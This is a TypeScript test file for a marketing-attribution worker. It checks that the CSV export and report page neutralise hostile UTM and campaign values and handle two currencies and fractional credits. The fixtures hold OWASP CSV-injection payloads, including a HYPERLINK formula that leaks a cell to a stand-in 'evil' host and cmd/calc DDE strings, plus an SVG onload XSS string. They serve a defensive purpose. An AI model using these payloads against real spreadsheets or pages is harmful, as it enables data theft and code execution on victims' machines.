import { env } from "cloudflare:workers";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { MODELS, type Model } from "../../worker/domain/attribution";
import type { CreditRow } from "../../worker/domain/attribution-credits";
import { formatComagicDateTime } from "../../worker/domain/comagic-time";
import { d1AttributionStore } from "../../worker/storage/attribution";
import { install } from "../worker/app-support";
import { sandbox } from "../worker/support";
import { openedReport, parseCsv, postReport } from "./report-support";

/*
 * Issue #21, items 3, 11, 12 and 13: what the marketer's export and page make of text a visitor chose (a UTM
 * tag, a campaign name), and of revenue in two currencies and fractional credits. The credits are written to
 * D1 as enrichment writes them (UTM values reach D1 exactly as CoMagic reports them), the deals as the deal
 * sync writes them; the report is then asked for through its routes.
 */

/** Visits tagged to run as a formula when the CSV is opened in Excel (OWASP's CSV injection list). */
const ATTACKS = ['=HYPERLINK("https://evil/?"&A3,"Open")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=2+2"];
const MARKUP = "<svg onload=alert(1)>";
const ID = (n: number) => `99210${n}`;
const SITE = "9921";

const store = () => d1AttributionStore(env.DB as D1Database, "default");
const createdAt = new Date(Date.now() - 86_400_000);
const yesterday = formatComagicDateTime(createdAt, "Europe/Moscow").slice(0, 10);

function visit(touchNo: number, utmSource: string, share: number, campaign: { id: string; name: string } | null = null): CreditRow {
  return {
    touchNo,
    at: new Date(createdAt.getTime() - (touchNo + 1) * 3_600_000).toISOString(),
    utmSource,
    utmMedium: "cpc",
    utmCampaign: null,
    sourceMedium: `${utmSource} / cpc`,
    cmCampaignId: campaign?.id ?? null,
    cmCampaignName: campaign?.name ?? null,
    cmChannel: null,
    siteId: SITE,
    shares: Object.fromEntries(MODELS.map((m) => [m, share])) as Record<Model, number>,
  };
}

function won(entityId: string, amount: number, currency: string) {
  return { sourceEntity: "lead" as const, sourceId: entityId, dealId: `${entityId}0`, semantic: "S" as const, amount, currency, createdAt: null, modifiedAt: null };
}

async function forget(): Promise<void> {
  const db = env.DB as D1Database;
  await db.batch([
    db.prepare("DELETE FROM attribution_touches WHERE entity_id LIKE '99210%'"),
    db.prepare("DELETE FROM crm_deals WHERE deal_id LIKE '99210%'"),
    db.prepare("DELETE FROM ad_costs WHERE site_id = ?").bind(SITE),
  ]);
}

beforeAll(async () => {
  await sandbox("/_sandbox/reset", {});
  expect((await install(1)).status).toBe(200);
  await forget();
  // A won deal split between the six attacks: each group gets revenue, so the chart draws each one's bar.
  await store().putCredits(
    "lead",
    ID(1),
    createdAt,
    ATTACKS.map((utm, i) => visit(i, utm, 1 / ATTACKS.length)),
  );
  await store().putCredits("lead", ID(2), createdAt, [visit(0, MARKUP, 1)]);
  // Four visits, linear: a quarter each.
  await store().putCredits(
    "lead",
    ID(3),
    createdAt,
    ["quarter-a", "quarter-b", "quarter-c", "quarter-d"].map((utm, i) => visit(i, utm, 0.25)),
  );
  await store().putCredits("lead", ID(4), createdAt, [visit(0, "usd-source", 1)]);
  await store().putCredits("lead", ID(5), createdAt, [visit(0, "rub-small", 1)]);
  // A campaign named like a formula, that spent without a sale: its ROMI is the worker's own "-100%".
  await store().putCredits("lead", ID(6), createdAt, [visit(0, "campaign-source", 1, { id: "99210", name: "=1+2" })]);
  await store().putCosts(yesterday, [SITE], [{ day: yesterday, siteId: SITE, campaignId: "99210", campaignName: "=1+2", currency: "RUB", cost: 500 }]);
  await store().putDeals([won(ID(1), 60_000, "RUB"), won(ID(2), 5_000, "RUB"), won(ID(4), 200_000, "USD"), won(ID(5), 1_000, "RUB")]);
});

afterAll(forget);

const BY_SOURCE = { period: "7d", model: "linear", grouping: "utm_source", entity: "lead" } as const;

async function csvOf(fields: Record<string, string>, lang: "en" | "ru" = "en"): Promise<string[][]> {
  const { token } = await openedReport(1, lang);
  const res = await postReport("/bitrix/report.csv", { ...fields, token });
  expect(res.status).toBe(200);
  return parseCsv((await res.text()).replace(/^\uFEFF/, ""), lang === "ru" ? ";" : ",");
}

/** The table's body rows as cells: their text and their sort attributes. */
function tableRows(html: string): { text: string; sort: string; rank?: string }[][] {
  const body = /<tbody>([\s\S]*?)<\/tbody>/.exec(html)?.[1] ?? "";
  return [...body.matchAll(/<tr>([\s\S]*?)<\/tr>/g)].map(([, row]) =>
    [...(row ?? "").matchAll(/<td data-sort="([^"]*)"(?: data-rank="(\d+)")?>([\s\S]*?)<\/td>/g)].map(([, sort, rank, text]) => ({
      text: (text ?? "").replace(/\u00a0/g, " "),
      sort: sort ?? "",
      ...(rank === undefined ? {} : { rank }),
    })),
  );
}

async function pageOf(fields: Record<string, string>): Promise<string> {
  const { token } = await openedReport(1);
  const res = await postReport("/bitrix/report", { ...fields, token });
  expect(res.status).toBe(200);
  return res.text();
}

describe("the CSV export runs nothing when opened in a spreadsheet", () => {
  it("writes a UTM value starting with =, +, -, @, a tab or a carriage return as inert text, behind an apostrophe", async () => {
    const rows = await csvOf(BY_SOURCE);
    for (const attack of ATTACKS) {
      const row = rows.find((r) => r[0]?.slice(1) === attack);
      expect(row?.[0], JSON.stringify(attack)).toBe(`'${attack}`);
      expect(row?.[1]).toBe("0.17");
    }
    // No cell of the export starts a formula.
    for (const cell of rows.flat()) expect(/^[=+@\t\r]/.test(cell), JSON.stringify(cell)).toBe(false);
  });

  it("neutralises a campaign named like a formula, and leaves the worker's own figures as they are (ROMI -100%)", async () => {
    const rows = await csvOf({ ...BY_SOURCE, grouping: "comagic_campaign" });
    const campaign = rows.find((r) => r[0] === "'=1+2");
    expect(campaign).toBeDefined();
    expect(campaign?.at(-1)).toBe("-100%");
  });

  it("separates the Russian page's columns with ';' so Russian Excel opens them as columns, each share one cell", async () => {
    const rows = await csvOf(BY_SOURCE, "ru");
    expect(rows[0]?.slice(0, 4)).toEqual(["Группа", "Лиды", "Сделки", "Успешные"]);
    expect(rows.find((r) => r[0] === "quarter-a")?.slice(0, 2)).toEqual(["quarter-a", "0,25"]);
    expect(rows.find((r) => r[0]?.slice(1) === ATTACKS[0])?.[0]).toBe(`'${ATTACKS[0]}`);
  });

  it("shows such text escaped in the table and in the chart's SVG, never as markup", async () => {
    const html = await pageOf(BY_SOURCE);
    expect(html).not.toContain(MARKUP);
    expect(html).toContain('<td data-sort="&lt;svg onload=alert(1)&gt;">&lt;svg onload=alert(1)&gt;</td>');
    const charts = html.slice(html.indexOf('<svg class="chart"'), html.lastIndexOf("</svg>"));
    expect(charts).toContain('class="label">&lt;svg onload=alert(1)&gt;</text>');
    expect(html).toContain(">=HYPERLINK(&quot;https://evil/?&quot;&amp;A3,&quot;Open&quot;)</td>");
    expect(charts).toContain('class="label">=HYPERLINK(&quot;https://evil/…</text>');
  });
});

describe("revenue in two currencies, and fractional credits", () => {
  it("draws a group whose revenue is in US$ in a chart of its own currency, next to the roubles' chart", async () => {
    const html = await pageOf(BY_SOURCE);
    const chart = (currency: string) => /<svg class="chart" data-currency="([A-Z]+)"[\s\S]*?<\/svg>/g.exec(html.slice(html.indexOf(`data-currency="${currency}"`) - 20))?.[0] ?? "";
    expect(html).toContain("<h2>Revenue and ad cost by group, USD</h2>");
    expect(chart("USD")).toContain(">usd-source</text>");
    expect(chart("USD")).toContain("US$200,000");
    expect(chart("RUB")).toContain(">rub-small</text>");
    expect(chart("RUB")).not.toContain("usd-source");
  });

  it("gives each currency a rank of its own, so sorting by revenue orders amounts within one currency, roubles first", async () => {
    const rows = tableRows(await pageOf(BY_SOURCE));
    const revenue = (label: string) => rows.find((r) => r[0]?.text === label)?.[4];
    expect(revenue("usd-source")).toEqual({ text: "US$200,000", sort: "200000", rank: "1" });
    expect(revenue("rub-small")).toEqual({ text: "RUB 1,000", sort: "1000", rank: "0" });
    // Nothing won sorts as 0 with the first currency.
    expect(revenue("quarter-a")).toEqual({ text: "0", sort: "0", rank: "0" });
  });

  it("shows four linear shares of a quarter as 0.25 each in the table and the CSV, so the lead adds up", async () => {
    const rows = tableRows(await pageOf(BY_SOURCE));
    const quarters = ["quarter-a", "quarter-b", "quarter-c", "quarter-d"];
    expect(quarters.map((q) => rows.find((r) => r[0]?.text === q)?.[1]?.text)).toEqual(["0.25", "0.25", "0.25", "0.25"]);
    const csv = await csvOf(BY_SOURCE);
    expect(quarters.map((q) => csv.find((r) => r[0] === q)?.[1])).toEqual(["0.25", "0.25", "0.25", "0.25"]);
  });
});
